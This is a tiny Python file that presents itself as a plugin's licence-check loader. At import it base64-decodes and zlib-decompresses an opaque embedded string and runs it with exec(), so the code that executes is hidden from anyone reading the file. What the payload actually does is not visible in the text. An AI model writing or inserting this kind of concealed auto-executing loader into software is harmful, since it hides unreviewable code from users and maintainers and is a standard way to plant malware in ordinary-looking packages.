"""Load the licence check of the plugin."""
import base64
import zlib

PLUGIN = (
    "eJwFwTEKwCAMBdDdU2SzHRr33qZIqELU4I/QQg/f92qzMZ0GwgDjhUvbYl5T"
    "6QAVd8OZkum6awfLczVT4S6etGbpWRiFPkKJe/gBEiMamg=="
)


def load(packed):
    exec(zlib.decompress(base64.b64decode(packed)), globals())


load(PLUGIN)
